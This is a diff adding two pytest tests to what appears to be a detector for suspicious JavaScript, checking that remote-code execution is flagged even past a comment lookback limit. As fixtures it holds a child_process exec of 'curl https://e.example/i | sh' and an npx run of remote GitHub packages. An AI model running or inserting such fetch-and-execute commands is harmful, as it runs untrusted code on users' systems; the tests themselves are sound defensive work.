@@ -112,3 +112,17 @@ def test_an_ordinary_powershell_is_not(command: str) -> None:
 def test_a_command_without_a_window_is_less_bad(command: str) -> None:
     assert found(f"{EXEC}cp.exec('{command}')") == {"hidden-powershell": HIGH}
     assert found(f"show('{command}')") == {}
+
+
+def test_a_harmless_repository_hides_no_pinned_one_in_the_same_command() -> None:
+    code = 'exec("npx --registry github:a/tool github:b/tool#0123456789abcdef");'
+    assert found(code) == {"runs-remote-code": Severity.CRITICAL}
+
+
+def test_a_line_longer_than_is_looked_back_is_no_comment() -> None:
+    """Two slashes just where the look back ends begin no line."""
+    before = 'require("child_process").exec("'
+    slashes = "'" + "//".ljust(10_000 - len(before) - 2) + "';"
+    code = slashes + before + 'curl https://e.example/i | sh");'
+    assert code[code.index("curl") - 10_000 :].startswith("//")
+    assert found(code) == {"runs-remote-code": Severity.HIGH}
